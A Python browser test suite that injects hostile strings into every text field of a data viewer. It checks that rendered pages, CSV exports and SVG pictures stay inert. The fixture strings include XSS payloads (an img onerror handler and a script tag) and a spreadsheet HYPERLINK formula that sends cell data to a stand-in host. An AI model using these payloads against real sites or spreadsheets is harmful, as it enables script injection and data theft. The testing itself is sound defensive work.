"""Texts meant to break the page, wherever a view model has a text, through every view and file."""

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from xml.etree.ElementTree import fromstring

import pytest
from playwright.sync_api import BrowserContext, Dialog, Page

from export.viewer.contract import Labels, Localised, View
from export.viewer.html import render_html
from tests.browser.conftest import watched_page
from tests.browser.sample import sample_view
from tests.browser.sample_tables import FUZZ

pytestmark = pytest.mark.slow  # run by .ci/run and the long lane
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
HTML = "<img src=x onerror='window.hacked=5'><script>window.hacked=6</script>"
TEXTS = [
    *FUZZ,
    ("formula", FORMULA),
    ("html", HTML),
    ("entity", "&lt;b&gt; &#x3C;script&#x3E; ${window.hacked=7}"),
]
STATES = (
    "",
    "sel=org/samdir&possible=1",
    "pair=org/samdir,org/fornying",
    "focus=org/samdir&hops=2",
    "path=org/fornying,solution/postkassa",
    "source=nordsoft-2016",
    "tab=tree",
    "tab=said",
    "tab=years&focus=org/samdir",
    "tab=list",
    "tab=list&table=ties",
    "tab=list&table=evidence&sel=org/samdir",
    "tab=list&table=changes&since=2000-01-01",
    "tab=list&table=sources",
)


def poisoned(text: str) -> View:
    """Return the sample with every text that a reader may see replaced."""
    both = Localised(nb=text, en=text)
    view = sample_view()
    view["title"] = view["subtitle"] = both
    for labels in (
        "kinds",
        "statusLabels",
        "supportLabels",
        "certaintyLabels",
        "citationLabels",
        "interestLabels",
    ):
        table: Labels = view[labels]
        view[labels] = dict.fromkeys(table, both)
    for group in view["groups"]:
        group["label"] = both
    for node in view["nodes"]:
        node["ids"] = [text]
        for name in node["names"]:
            name["t"] = text
    for edge in view["edges"]:
        edge["label"] = both
    for fact in view["facts"]:
        fact["label"] = fact["text"] = fact["note"] = both
        fact["start"] = fact["end"] = text
        for claim in fact["claims"]:
            claim["title"] = claim["start"] = claim["end"] = text
            claim["note"], claim["attested"] = both, [text]
            for place in claim["places"]:
                place["heading"] = place["before"] = place["after"] = place["at"] = place["text"] = text
    for source in view["sources"]:
        source["title"] = source["publisher"] = source["date"] = source["url"] = text
        source["role"] = source["interestNote"] = source["licence"] = both
    return view


@pytest.fixture(params=TEXTS, ids=[name for name, _ in TEXTS])
def poison(
    request: pytest.FixtureRequest, reader: BrowserContext, tmp_path: Path
) -> Iterator[tuple[Page, str]]:
    """Give a page with a map that has one text everywhere; it forgives no request, error or violation."""
    path = tmp_path / "poison.html"
    path.write_text(render_html({**poisoned(request.param[1])}), encoding="utf-8", newline="\n")
    trouble: list[str] = []
    page = watched_page(reader, (1400, 900), trouble)

    def refuse(dialog: Dialog) -> None:
        trouble.append("dialog")
        dialog.dismiss()

    page.on("dialog", refuse)
    yield page, path.as_uri()
    trouble += page.evaluate("window.violations ?? []")
    page.close()
    assert trouble == []


def test_no_text_breaks_any_view(poison: tuple[Page, str]) -> None:
    """Every view opens, nothing runs, no text becomes an element or link, nothing is wider than the page."""
    page, address = poison
    page.goto(f"{address}#v=1&lang=nb")
    page.locator("html[data-ready]").wait_for()
    for state in STATES:
        page.evaluate("(hash) => { location.hash = hash; }", f"v=1&lang=nb&{state}")
        page.wait_for_timeout(60)
        page.evaluate("for (const part of document.querySelectorAll('details')) part.open = true")
        assert page.evaluate("window.hacked") is None, state
        found = page.evaluate(
            "document.querySelectorAll('img, b:not(.caption-part b), main script, iframe, object').length"
        )
        assert found == 0, state
        bad = page.evaluate("[...document.links].map((link) => link.protocol)")
        assert set(bad) <= {"http:", "https:", "mailto:", "file:"}, state
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), state
        if "list" in state:
            _check_csv(page)
        else:
            _check_picture(page)


def _check_csv(page: Page) -> None:
    """The table's file has as many cells in every row, and none that a spreadsheet would run."""
    if page.locator("#table-csv").is_disabled():
        return
    with page.expect_download() as saved:
        page.locator("#table-csv").click()
    text = Path(saved.value.path()).read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) > 1 and {len(row) for row in rows} == {len(rows[0])}
    assert not [cell for row in rows for cell in row if cell.lstrip().startswith(("=", "+", "-", "@"))]
    assert "/" not in saved.value.suggested_filename and ".." not in saved.value.suggested_filename


def _check_picture(page: Page) -> None:
    """The picture is well-formed and holds shapes and text only."""
    root = fromstring(page.evaluate("aktorkart.picture()").encode("utf-8"))
    tags = {element.tag.removeprefix("{http://www.w3.org/2000/svg}") for element in root.iter()}
    assert tags <= {
        "svg",
        "title",
        "desc",
        "defs",
        "clipPath",
        "rect",
        "text",
        "g",
        "line",
        "path",
        "circle",
        "polygon",
    }
    assert not [
        name
        for element in root.iter()
        for name in element.attrib
        if str(name).startswith("on") or str(name).endswith("href")
    ]
